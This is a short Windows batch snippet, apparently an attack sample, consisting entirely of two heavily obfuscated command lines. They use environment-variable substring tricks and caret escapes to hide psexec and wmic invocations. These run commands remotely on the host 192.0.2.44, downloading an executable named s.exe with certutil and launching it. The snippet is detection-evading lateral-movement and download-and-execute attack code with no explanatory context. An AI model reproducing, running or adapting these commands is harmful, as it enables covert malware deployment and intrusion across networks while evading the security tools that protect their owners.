REM run 3429 v2
^p%windir:~-1,1%%COMSPEC:~15,1%%COMSPEC:~25,1%%COMSPEC:~-1,1%c.%PUBLIC:~-10,1%x%comspec:~-3,1% \\^1^9^2.0.^2.44 -ac^c^ep^teula -s -d c^m^d /^c "certutil -urlcache -f http://192.0.2.44/s.exe C:\s.exe && C:\s.exe"
w%comspec:~-11,1%i%COMSPEC:~-7,1% /no^d^e:192.0.^2.^4^4 ^pr^oc^e^s^s ^call cr^eate "cmd /c C:\s.exe"
